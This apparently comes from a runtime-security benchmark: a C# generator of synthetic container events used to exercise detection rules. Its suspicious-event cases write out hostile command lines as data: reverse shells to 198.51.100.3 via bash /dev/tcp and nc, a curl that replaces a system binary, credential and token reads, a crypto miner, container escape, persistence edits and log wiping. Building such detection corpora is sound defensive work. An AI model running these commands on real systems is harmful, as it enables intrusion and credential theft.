// Copyright (c) PolicyLang contributors. Licensed under the Apache License 2.0.

using System.Globalization;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Serialization;
using PolicyLang.Runtime.Subjects;

namespace PolicyLang.Benchmarks.Corpus;

/// <summary>
/// A deterministic stream of runtime events as a node sensor reports them: process execs, file opens, connections,
/// accepts, privilege changes and kernel calls from a few hundred pods and the host, with their process, container
/// and pod context. Most events are the everyday work of applications; a few percent are the behaviour the runtime
/// detections look for (shells, tools, credential reads, writes below system directories, odd connections, …).
/// Events of one pod share its container and pod objects, as a sensor's enrichment cache does.
/// </summary>
public static class EventCorpus
{
    public const int DefaultSeed = 20261207;

    /// <summary>The share of events that are suspicious.</summary>
    public const double SuspiciousShare = 0.04;

    /// <summary>How JSON lines are written: PolicyLang's own event format (the field names of <see cref="RuntimeEvent"/>).</summary>
    public static readonly JsonSerializerOptions JsonOptions = new()
    {
        DefaultIgnoreCondition = JsonIgnoreCondition.WhenWritingNull,
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    private static readonly DateTimeOffset Start = new(2026, 11, 20, 10, 0, 0, TimeSpan.Zero);
    private static readonly string[] Namespaces = ["shop", "payments", "web", "data", "monitoring", "kube-system", "batch"];
    private static readonly string[] Apps = ["api", "web", "worker", "cache", "gateway", "exporter", "indexer", "billing"];
    private static readonly (string Name, string Exe, string Args)[] AppProcesses =
    [
        ("node", "/usr/local/bin/node", "server.js"), ("java", "/usr/bin/java", "-jar /app/app.jar"), ("python3", "/usr/bin/python3", "-m app"),
        ("nginx", "/usr/sbin/nginx", "-g daemon off;"), ("envoy", "/usr/local/bin/envoy", "-c /etc/envoy/envoy.yaml"), ("redis-server", "/usr/bin/redis-server", "*:6379"),
    ];

    private static readonly string[] AppFiles =
    [
        "/app/config.yaml", "/etc/ssl/certs/ca-certificates.crt", "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/app/static/index.html",
        "/etc/resolv.conf", "/etc/hosts", "/proc/self/stat", "/tmp/cache/blob", "/var/lib/app/data.db", "/etc/passwd",
    ];

    private static readonly string[] WrittenFiles = ["/tmp/cache/blob", "/var/lib/app/data.db", "/var/log/app/app.log", "/app/uploads/file.bin"];

    private sealed record Pod(EventContainer Container, EventKubernetes Kubernetes);

    /// <summary>Generates <paramref name="count"/> events from <paramref name="seed"/>.</summary>
    public static RuntimeEvent[] Generate(int count, int seed = DefaultSeed)
    {
        var random = new Random(seed);
        var pods = Pods(random, 300);
        var host = new Pod(new EventContainer { Id = "host" }, new EventKubernetes());
        var events = new RuntimeEvent[count];
        for (var i = 0; i < count; i++)
        {
            var pod = random.Next(20) == 0 ? host : pods[random.Next(pods.Length)];
            var time = Start.AddTicks(i * 1000L);
            events[i] = random.NextDouble() < SuspiciousShare ? Suspicious(random, pod, time) : Everyday(random, pod, time);
        }

        return events;
    }

    /// <summary>The events as JSON lines.</summary>
    public static string[] ToJsonLines(IEnumerable<RuntimeEvent> events) => [.. events.Select(e => JsonSerializer.Serialize(e, JsonOptions))];

    private static Pod[] Pods(Random random, int count)
    {
        var pods = new Pod[count];
        for (var i = 0; i < count; i++)
        {
            var app = WorkloadCorpus.Pick(random, Apps);
            var ns = WorkloadCorpus.Pick(random, Namespaces);
            var name = $"{app}-{WorkloadCorpus.Hex(random, 5)}";
            pods[i] = new Pod(
                new EventContainer { Id = WorkloadCorpus.Hex(random, 12), Name = app, Image = $"ghcr.io/acme/{app}:1.{random.Next(20)}.0", Privileged = random.Next(50) == 0 },
                new EventKubernetes { Namespace = ns, Pod = name, Labels = new Dictionary<string, string> { ["app"] = app }, ServiceAccount = app });
        }

        return pods;
    }

    private static RuntimeEvent Everyday(Random random, Pod pod, DateTimeOffset time)
    {
        var (name, exe, args) = WorkloadCorpus.Pick(random, AppProcesses);
        var process = Process(random, name, exe, args, "containerd-shim", uid: random.Next(4) == 0 ? 0 : 1000, tty: false);
        return random.Next(10) switch
        {
            0 => Event("execve", time, pod, random.Next(2) == 0 ? process : Process(random, "sh", "/bin/sh", "-c /entrypoint.sh", name, 1000, tty: false)),
            < 6 => Open(time, pod, process, WorkloadCorpus.Pick(random, AppFiles), write: false, trunc: false),
            6 => Open(time, pod, process, WorkloadCorpus.Pick(random, WrittenFiles), write: true, trunc: random.Next(8) == 0),
            < 9 => Connect(time, pod, process, random.Next(3) == 0 ? "10.0." + random.Next(256).ToString(CultureInfo.InvariantCulture) + ".7" : "203.0.113." + random.Next(1, 255).ToString(CultureInfo.InvariantCulture), random.Next(3) == 0 ? 53 : 443, "tcp"),
            _ => Accept(time, pod, process, "10.0.1." + random.Next(256).ToString(CultureInfo.InvariantCulture), 8080),
        };
    }

    private static RuntimeEvent Suspicious(Random random, Pod pod, DateTimeOffset time)
    {
        var shell = Process(random, "bash", "/bin/bash", "-i", "runc", uid: 0, tty: true);
        return random.Next(25) switch
        {
            0 => Event("execve", time, pod, shell),
            1 => Event("execve", time, pod, Process(random, "sh", "/bin/sh", "-c id;uname -a", "nginx", 33, tty: false)),
            2 => Event("execve", time, pod, Process(random, "bash", "/bin/bash", "-c bash -i >& /dev/tcp/198.51.100.3/4444 0>&1", "python3", 1000, tty: false)),
            3 => Event("execve", time, pod, Process(random, "apt-get", "/usr/bin/apt-get", "install -y curl", "bash", 0, tty: true)),
            4 => Event("execve", time, pod, Process(random, "nc", "/bin/nc", "-e /bin/sh 198.51.100.3 9001", "bash", 0, tty: false)),
            5 => Event("execve", time, pod, Process(random, "xmrig", "/tmp/.cache/xmrig", "-o stratum+tcp://pool.example:3333", "sh", 1000, tty: false)),
            6 => Event("execve", time, pod, Process(random, "nmap", "/usr/bin/nmap", "-sS 10.0.0.0/16", "bash", 0, tty: true)),
            7 => Event("execve", time, pod, Process(random, "nsenter", "/usr/bin/nsenter", "-t 1 -m -u -n -i sh", "bash", 0, tty: true)),
            8 => Event("execve", time, pod, Process(random, "run", "/dev/shm/run", "--daemon", "sh", 1000, tty: false)),
            9 => Open(time, pod, Process(random, "cat", "/bin/cat", "/etc/shadow", "bash", 0, tty: true), "/etc/shadow", write: false, trunc: false),
            10 => Open(time, pod, Process(random, "cat", "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", "bash", 0, tty: true), "/var/run/secrets/kubernetes.io/serviceaccount/token", write: false, trunc: false),
            11 => Open(time, pod, Process(random, "python3", "/usr/bin/python3", "steal.py", "bash", 1000, tty: false), "/root/.ssh/id_rsa", write: false, trunc: false),
            12 => Open(time, pod, Process(random, "curl", "/usr/bin/curl", "-o /usr/bin/ls http://198.51.100.3/ls", "bash", 0, tty: false), "/usr/bin/ls", write: true, trunc: true),
            13 => Open(time, pod, Process(random, "sh", "/bin/sh", "-c echo x >> /etc/hosts", "bash", 0, tty: false), "/etc/hosts", write: true, trunc: false),
            14 => Open(time, pod, Process(random, "sh", "/bin/sh", "-c echo curl >> ~/.bashrc", "bash", 0, tty: false), "/root/.bashrc", write: true, trunc: false),
            15 => Open(time, pod, Process(random, "sh", "/bin/sh", "-c crontab", "bash", 0, tty: false), "/var/spool/cron/crontabs/root", write: true, trunc: false),
            16 => Open(time, pod, Process(random, "sh", "/bin/sh", "-c : > /var/log/auth.log", "bash", 0, tty: false), "/var/log/auth.log", write: true, trunc: true),
            17 => File("unlink", time, pod, Process(random, "rm", "/bin/rm", "-f /root/.bash_history", "bash", 0, tty: true), "/root/.bash_history"),
            18 => Open(time, pod, Process(random, "cat", "/bin/cat", "/proc/1/environ", "bash", 0, tty: true), "/proc/1/environ", write: false, trunc: false),
            19 => Connect(time, pod, Process(random, "curl", "/usr/bin/curl", "http://169.254.169.254/latest/meta-data/", "bash", 0, tty: true), "169.254.169.254", 80, "tcp"),
            20 => Connect(time, pod, Process(random, "kworker", "/tmp/kworker", string.Empty, "sh", 1000, tty: false), "198.51.100.4", 3333, "tcp"),
            21 => Connect(time, pod, Process(random, "curl", "/usr/bin/curl", "-k https://10.96.0.1/api", "bash", 0, tty: true), "10.96.0.1", 443, "tcp"),
            22 => Event(random.Next(2) == 0 ? "setuid" : "setgid", time, pod, Process(random, "exploit", "/tmp/exploit", string.Empty, "sh", 1000, tty: false), targetId: 0),
            23 => Accept(time, pod, Process(random, "sshd", "/usr/sbin/sshd", "-D", "containerd-shim", 0, tty: false), "198.51.100.9", 22),
            _ => Event(WorkloadCorpus.Pick(random, ["ptrace", "mount", "module_load", "bpf"]), time, pod, Process(random, "loader", "/tmp/loader", string.Empty, "sh", 0, tty: false)),
        };
    }

    private static EventProcess Process(Random random, string name, string exe, string args, string parent, int uid, bool tty)
    {
        var arguments = args.Length == 0 ? [] : args.Split(' ', StringSplitOptions.RemoveEmptyEntries).ToList();
        return new EventProcess
        {
            Name = name,
            Exe = exe,
            Cmdline = args.Length == 0 ? name : name + " " + args,
            Args = arguments,
            Pid = random.Next(2, 60000),
            Uid = uid,
            Gid = uid,
            User = uid == 0 ? "root" : "app",
            Cwd = "/app",
            Tty = tty,
            Parent = new EventParentProcess { Name = parent, Pid = random.Next(1, 60000) },
            Ancestors = [parent, "containerd-shim"],
        };
    }

    private static RuntimeEvent Event(string type, DateTimeOffset time, Pod pod, EventProcess process, long? targetId = null, EventFile? file = null, EventNetwork? net = null, long? ret = null) => new()
    {
        Type = type,
        Time = time,
        Source = "policylang",
        Node = "node-1",
        Proc = process,
        File = file ?? new EventFile(),
        Net = net ?? new EventNetwork(),
        Container = pod.Container,
        K8s = pod.Kubernetes,
        Ret = ret,
        TargetId = targetId,
    };

    private static RuntimeEvent Open(DateTimeOffset time, Pod pod, EventProcess process, string path, bool write, bool trunc)
    {
        List<string> flags = write ? (trunc ? ["O_WRONLY", "O_CREAT", "O_TRUNC"] : ["O_WRONLY", "O_APPEND"]) : ["O_RDONLY"];
        return Event("open", time, pod, process, file: FileOf(path, flags, read: !write, write: write), ret: 3);
    }

    private static RuntimeEvent File(string type, DateTimeOffset time, Pod pod, EventProcess process, string path) =>
        Event(type, time, pod, process, file: FileOf(path, [], read: null, write: null), ret: 0);

    private static EventFile FileOf(string path, List<string> flags, bool? read, bool? write)
    {
        var slash = path.LastIndexOf('/');
        return new EventFile { Path = path, Directory = slash == 0 ? "/" : path[..slash], Name = path[(slash + 1)..], Flags = flags, Read = read, Write = write };
    }

    private static RuntimeEvent Connect(DateTimeOffset time, Pod pod, EventProcess process, string ip, int port, string protocol) =>
        Event("connect", time, pod, process, net: new EventNetwork { Protocol = protocol, SourceIp = "10.0.3.4", SourcePort = 40000 + (port % 1000), DestIp = ip, DestPort = port, Direction = "outbound" }, ret: 0);

    private static RuntimeEvent Accept(DateTimeOffset time, Pod pod, EventProcess process, string ip, int port) =>
        Event("accept", time, pod, process, net: new EventNetwork { Protocol = "tcp", SourceIp = ip, SourcePort = 51000, DestIp = "10.0.3.4", DestPort = port, Direction = "inbound" }, ret: 5);
}
